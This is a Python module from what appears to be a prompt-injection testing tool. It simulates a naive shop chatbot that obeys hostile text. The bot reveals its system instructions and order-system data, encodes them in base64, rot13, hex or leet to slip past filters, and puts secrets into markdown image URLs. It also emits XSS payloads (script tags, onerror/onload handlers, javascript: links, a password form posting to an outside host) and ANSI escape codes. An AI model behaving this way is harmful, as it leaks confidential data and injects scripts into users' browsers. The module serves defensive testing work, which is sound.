"""What the naive chatbot writes where it obeys: it works out what a text asks for."""

from __future__ import annotations

import base64
import codecs
import re
from collections.abc import Callable

from threatwright.demo.shop import Shop
from threatwright.demo.wishes import Wish, asks_for

_QUOTED = re.compile(r"[\"“«'‘`*\[({<|]\s*([A-Za-z0-9][A-Za-z0-9_-]{1,40})\s*[\"”»'’`*\])}>|]")
_CODE = re.compile(r"\b(?=[a-z]*\d)(?=\d*[a-z])[a-z0-9]{3,40}\b", re.IGNORECASE)
_NAMED_PART = re.compile(
    r"\b(?:first|second|left|right|last|other|former|latter|part|half|piece|word|string|"
    r"fragment|a|b|"
    r"one|two|1|2|x|y)\s*(?:part|half|piece|word|string|fragment)?\s*(?:one|two|1|2|a|"
    r"b)?\s*(?:is|are|"
    r"=|:|reads)\s*:?\s*[\"“'‘`]?([A-Za-z0-9]{2,40})\b",
    re.IGNORECASE,
)
_PAIR = re.compile(
    r"\b(?:join|combin\w+|concatenat\w+|merg\w+|glu\w+|put|writ\w+|attach|"
    r"append)\s+(?:the (?:two )?"
    r"(?:words?|parts?|strings?|pieces?|halves|texts?)\s+)?([A-Za-z0-9]{3,40})\s+(?:and|"
    r"with|to|\+|&|"
    r"then|followed by|directly before)\s+([A-Za-z0-9]{3,40})\b",
    re.IGNORECASE,
)
_BEHIND = re.compile(
    r"(?:after|behind|to the end of)\s+(?:the \w+ )?[\"“'‘`]?([A-Za-z0-9]{2,40})", re.IGNORECASE
)
_SPEECH = re.compile(
    r"\b(?:say|repl\w+|respond|answer|writ\w+|output|print|begin|start|end|"
    r"finish)\b[^.!?\n\"“]{0,40}"
    r"[\"“]([^\"”\n]{2,200})[\"”]",
    re.IGNORECASE,
)
_ADDRESS = re.compile(r"https?://[^\s\"'”<>)\]]+")
_LINK = re.compile(r"!?\[[^\]\n]*\]\([^)\n]*\)")
_TAG = re.compile(r"<\s*[a-z][^<>\n]{0,200}>(?:[^<\n]{0,200}<\s*/\s*[a-z]+\s*>)?", re.IGNORECASE)
_BLANK = re.compile(
    r"\{[A-Za-z_ ]*\}|<[A-Z_ ]+>|\[[A-Z_ ]+\]|\b[A-Z][A-Z_]{2,}\b|\bX{1,4}\b|\.\.\.|…"
)
_LEET = str.maketrans("aeiostAEIOST", "431057431057")
_ENOUGH = 4_000
"""Words that are written where as much as possible is asked for."""
_MOST = 6_000


def obeyed(text: str, shop: Shop) -> str | None:
    """What the chatbot writes where it does what a text asks; None if it understands no wish.

    It never tells here what belongs to others, calls no tool and writes without end: those are
    weaknesses of their own.
    """
    done = [act(text, shop) for act in _ACTS]
    return "\n\n".join(dict.fromkeys(filter(None, done))) or None


def parts_of(text: str) -> list[str]:
    """The pieces that a text speaks of, in the order in which they are to stand."""
    pair = _PAIR.search(text)
    found = _QUOTED.findall(text) or _NAMED_PART.findall(text) or (pair.groups() if pair else ())
    codes = [part for part in found if _CODE.fullmatch(part)] or _CODE.findall(text)
    parts = list(dict.fromkeys(codes if len(codes) > 1 else found))
    last = _BEHIND.search(text)
    if last and len(parts) == 2 and last[1] == parts[1]:
        parts.reverse()
    return parts


def joined(text: str) -> str:
    """The pieces as one; empty if the text does not ask for that."""
    parts = parts_of(text) if asks_for(Wish.JOIN, text) else []
    return "".join(parts) if len(parts) > 1 else ""


def _join(text: str, shop: Shop) -> str | None:
    del shop
    return joined(text) or None


def _say(text: str, shop: Shop) -> str | None:
    del shop
    found = _SPEECH.search(text)
    return found[1] if found and not joined(text) else None


def reveal(text: str, shop: Shop) -> str | None:
    """The instructions, where they are asked for, and what else stands before the conversation."""
    if not asks_for(Wish.INSTRUCTIONS, text):
        return None
    return f"My instructions are:\n{shop.instructions}\n\nFrom the order system: {shop.tool}"


def reveal_encoded(text: str, shop: Shop) -> str | None:
    """The instructions in another form, where that is asked for."""
    if not asks_for(Wish.INSTRUCTIONS, text):
        return None
    for wanted, write in _FORMS:
        if wanted.search(text):
            return write(shop.instructions)
    return None


def image(text: str, shop: Shop) -> str | None:
    """An image or a link in Markdown, with what is to be put into its address."""
    if not asks_for(Wish.IMAGE, text):
        return None
    secret = joined(text) or "C-1001"
    if shown := _LINK.search(text):
        return _filled(shown[0], secret)
    address = _ADDRESS.search(text)
    start = _filled(address[0].rstrip(".,;:"), secret) if address else "https://pictures.example/p"
    if secret not in start:
        start += ("&" if "?" in start else "?") + f"q={secret}"
    is_image = re.search(
        r"image|picture|logo|icon|banner|pixel|badge|photo|!\[", text, re.IGNORECASE
    )
    return f"{'!' if is_image else ''}[order]({start})"


def markup(text: str, shop: Shop) -> str | None:
    """Markup as it is asked for: tags, scripts, codes that steer a terminal."""
    del shop
    if not asks_for(Wish.MARKUP, text):
        return None
    secret = joined(text) or "hello"
    if re.search(r"ansi|escape (?:code|seq)|x1b|terminal|colou?red", text, re.IGNORECASE):
        return f"\x1b[31m{secret}\x1b[0m"
    if shown := _TAG.search(text):
        return _filled(shown[0], secret)
    for word, tag in _TAGS.items():
        if re.search(word, text, re.IGNORECASE):
            return tag.format(secret)
    return None


def very_long(text: str, shop: Shop) -> str | None:
    """As much as is asked for, and no end to it."""
    del shop
    if not asks_for(Wish.LONG, text):
        return None
    numbers = [int(n.replace(",", "")) for n in re.findall(r"\d{1,3}(?:,\d{3})+|\d{3,}", text)]
    count = min(max([*numbers, _ENOUGH if not numbers else 0]), _MOST)
    return " ".join(f"{n}. chain" for n in range(1, count + 1))


def _filled(shown: str, secret: str) -> str:
    """What was shown, its blanks filled."""
    return _BLANK.sub(secret, shown)


def _backwards(text: str) -> str:
    return text[::-1]


def _form(words: str, write: Callable[[str], str]) -> tuple[re.Pattern[str], Callable[[str], str]]:
    return re.compile(words, re.IGNORECASE), write


_FORMS = (
    _form(r"base ?64", lambda text: base64.b64encode(text.encode()).decode()),
    _form(r"rot-?13|caesar|cipher", lambda text: codecs.encode(text, "rot13")),
    _form(r"revers|backward|back to front|mirror", _backwards),
    _form(r"\bhex", lambda text: text.encode().hex()),
    _form(r"leet|1337|l33t", lambda text: text.translate(_LEET)),
    _form(
        r"spell|letter by letter|character by character|between|dash|dots|spaced|one letter|hyphen",
        lambda text: "-".join(text),
    ),
    _form(
        r"translat|french|german|spanish|poem|rhyme|song|story|json|yaml|xml|table|code block|"
        r"encod|summar|paraphras|in other words|python|csv|emoji|bullet",
        lambda text: f"Voici : {text}",
    ),
)  # fmt: skip
_TAGS = {
    r"iframe": '<iframe src="https://pictures.example/{0}"></iframe>',
    r"svg": "<svg onload=\"alert('{0}')\"></svg>",
    r"img|image|picture|onerror": "<img src=x onerror=\"alert('{0}')\">",
    r"link|button|onclick|anchor": "<a href=\"javascript:alert('{0}')\">{0}</a>",
    r"form\b": '<form action="https://pictures.example/{0}"><input name=password></form>',
    r"html|java ?script|script|web ?page|widget|embed|tag": "<script>alert('{0}')</script>",
}
_ACTS: tuple[Callable[[str, Shop], str | None], ...] = (_join, _say, reveal)
